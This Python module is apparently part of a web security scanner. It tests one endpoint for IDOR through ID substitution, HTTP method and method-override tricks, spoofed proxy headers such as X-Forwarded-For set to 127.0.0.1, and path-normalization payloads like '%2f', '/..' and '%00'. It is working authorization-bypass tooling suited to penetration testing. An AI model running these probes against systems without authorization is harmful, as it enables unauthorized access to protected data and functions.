"""
AuthBypass - IDOR, privilege escalation & auth bypass testing

Checks:
- IDOR through numeric ID substitution with a low-privilege token
- HTTP methods and method-override headers
- Spoofed client/proxy headers against a denied endpoint
- Path normalization variants
"""

from typing import List, Optional
from urllib.parse import urlsplit

from tryharder.engine.candidates import (
    dedupe, header_fanout, id_substitutions, origin, split_list
)
from tryharder.engine.classifier import header_bypass_rule, idor_rule
from tryharder.engine.models import Finding, FindingKind, ProbeDescriptor, ProbePurpose, Severity
from tryharder.tools.base import BaseTool, RunContext


BYPASS_HEADERS = [
    ('X-Original-URL', '/'),
    ('X-Rewrite-URL', '/'),
    ('X-Custom-IP-Authorization', '127.0.0.1'),
    ('X-Forwarded-For', '127.0.0.1'),
    ('X-Forwarded-Host', 'localhost'),
    ('X-Host', 'localhost'),
    ('X-Remote-IP', '127.0.0.1'),
    ('X-Remote-Addr', '127.0.0.1'),
    ('X-Originating-IP', '127.0.0.1'),
    ('X-Client-IP', '127.0.0.1'),
    ('X-Real-IP', '127.0.0.1'),
    ('True-Client-IP', '127.0.0.1'),
    ('Cluster-Client-IP', '127.0.0.1'),
    ('X-ProxyUser-Ip', '127.0.0.1'),
    ('X-Original-Remote-Addr', '127.0.0.1'),
]

METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE']
METHOD_OVERRIDE_HEADERS = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override']
OVERRIDE_METHODS = ['PUT', 'DELETE', 'PATCH']

PATH_LENGTH_DELTA = 500
PROBE_TIMEOUT_MS = 10000


def path_variants(path: str) -> List[str]:
    """Path normalization tricks around one path."""
    dotdot = path + '/..' if path and not path.endswith('/') else path
    return [
        path + '/',
        path + '/.',
        path + '//',
        path + '/./',
        path + '%2f',
        path + '%252f',
        dotdot,
        '//' + path,
        '/./' + path,
        '/../' + path,
        path + '?',
        path + '#',
        path + '%00',
        path + '%0a',
        path + '%0d',
        path.upper(),
        path + '.json',
        path + '.html',
    ]


class AuthBypass(BaseTool):
    """Authorization testing against a single endpoint."""

    name = 'authbypass'
    title = 'AuthBypass'
    description = 'IDOR, privilege escalation & auth bypass testing'
    defaults = {
        'tokenA': '',
        'tokenB': '',
        'idValues': '',
        'idorTest': True,
        'methodTest': True,
        'headerTest': True,
        'pathTest': True,
    }
    baseline_name = 'no-auth'

    @staticmethod
    def _auth(token: str) -> dict:
        return {'Authorization': token} if token else {}

    async def prepare(self, ctx: RunContext):
        url = ctx.target
        await ctx.capture('high-priv-token', url, headers=self._auth(ctx.options.get('tokenA')),
                          timeout_ms=PROBE_TIMEOUT_MS)
        await ctx.capture('low-priv-token', url, headers=self._auth(ctx.options.get('tokenB')),
                          timeout_ms=PROBE_TIMEOUT_MS)
        no_auth = await ctx.capture('no-auth', url, timeout_ms=PROBE_TIMEOUT_MS)

        if not no_auth.reachable:
            ctx.abort('target unreachable')

    def candidates(self, ctx: RunContext) -> List[ProbeDescriptor]:
        url = ctx.target
        options = ctx.options
        result = []

        if options.get('idorTest'):
            supplied = split_list(options.get('idValues'), ',')
            low_auth = self._auth(options.get('tokenB'))
            original = urlsplit(url)
            for test_id, test_url in id_substitutions(url, supplied):
                result.append(ProbeDescriptor(
                    url=test_url,
                    headers=low_auth,
                    purpose=ProbePurpose.ID_SUBSTITUTION,
                    timeout_ms=PROBE_TIMEOUT_MS,
                    meta={'test_id': test_id, 'path': original.path}
                ))

        if options.get('methodTest'):
            for method in METHODS:
                result.append(ProbeDescriptor(
                    url=url,
                    method=method,
                    purpose=ProbePurpose.METHOD_OVERRIDE,
                    timeout_ms=PROBE_TIMEOUT_MS,
                    meta={'method': method}
                ))
            for header in METHOD_OVERRIDE_HEADERS:
                for method in OVERRIDE_METHODS:
                    result.append(ProbeDescriptor(
                        url=url,
                        method='POST',
                        headers={header: method},
                        purpose=ProbePurpose.METHOD_OVERRIDE,
                        timeout_ms=PROBE_TIMEOUT_MS,
                        meta={'method': method, 'header': header}
                    ))

        # Header tricks only matter when the unauthenticated request is denied
        if options.get('headerTest') and ctx.baselines['no-auth'].status in (401, 403):
            result.extend(header_fanout(url, BYPASS_HEADERS))
        elif options.get('headerTest'):
            self.logger.debug(f"Skipping header bypass, baseline status {ctx.baselines['no-auth'].status}")

        if options.get('pathTest'):
            parts = urlsplit(url)
            base = origin(url)
            search = f"?{parts.query}" if parts.query else ''
            for variant in path_variants(parts.path):
                result.append(ProbeDescriptor(
                    url=f"{base}{variant}{search}",
                    purpose=ProbePurpose.PATH_VARIATION,
                    timeout_ms=PROBE_TIMEOUT_MS,
                    meta={'path': parts.path, 'payload': variant}
                ))

        return dedupe(result)

    def classify(self, descriptor, response, diff, matches, ctx) -> Optional[Finding]:
        if not response.success:
            return None

        purpose = descriptor.purpose

        if purpose == ProbePurpose.ID_SUBSTITUTION:
            if not idor_rule(response):
                return None
            test_id = descriptor.meta['test_id']
            return self.create_finding(
                FindingKind.VULNERABILITY,
                'Potential IDOR Vulnerability',
                descriptor.url,
                Severity.HIGH,
                f"Accessed resource with ID: {test_id}",
                testId=test_id,
                status=response.status
            )

        if purpose == ProbePurpose.METHOD_OVERRIDE:
            return self._classify_method(descriptor, response, ctx)

        if purpose == ProbePurpose.HEADER_BYPASS:
            baseline_status = ctx.baselines['no-auth'].status
            if not header_bypass_rule(baseline_status, response.status):
                return None
            header = descriptor.meta['header']
            return self.create_finding(
                FindingKind.VULNERABILITY,
                f"Header-Based Auth Bypass: {header}",
                f"{header}: {descriptor.meta['value']}",
                Severity.CRITICAL,
                f"Bypassed {baseline_status} with header",
                header=header,
                originalStatus=baseline_status
            )

        if purpose == ProbePurpose.PATH_VARIATION:
            baseline_status = diff.baseline_status
            if diff.status_changed and response.status == 200 and baseline_status != 200:
                return self.create_finding(
                    FindingKind.WARNING,
                    'Path Traversal Bypass',
                    descriptor.url,
                    Severity.MEDIUM,
                    f"Status changed: {baseline_status} -> {response.status}",
                    payload=descriptor.meta['payload'],
                    statusDiff=True
                )
            if diff.abs_length_delta > PATH_LENGTH_DELTA:
                return self.create_finding(
                    FindingKind.INFO,
                    'Path Variation Detected',
                    descriptor.url,
                    Severity.LOW,
                    f"Response size differs by {diff.abs_length_delta} bytes",
                    payload=descriptor.meta['payload'],
                    lengthDiff=diff.abs_length_delta
                )

        return None

    def _classify_method(self, descriptor, response, ctx) -> Optional[Finding]:
        method = descriptor.meta['method']
        header = descriptor.meta.get('header')

        if header is None:
            baseline_status = ctx.baselines['high-priv-token'].status
            if response.status != 200 or baseline_status == 200:
                return None
            return self.create_finding(
                FindingKind.WARNING,
                f"Method {method} allowed",
                f"{method} {descriptor.url}",
                Severity.MEDIUM,
                f"Got {response.status} instead of {baseline_status}",
                method=method,
                status=response.status
            )

        if response.status in (405, 403):
            return None
        return self.create_finding(
            FindingKind.WARNING,
            f"Method Override: {header}",
            f"{header}: {method}",
            Severity.MEDIUM,
            f"Override to {method} returned {response.status}",
            header=header,
            method=method,
            status=response.status
        )
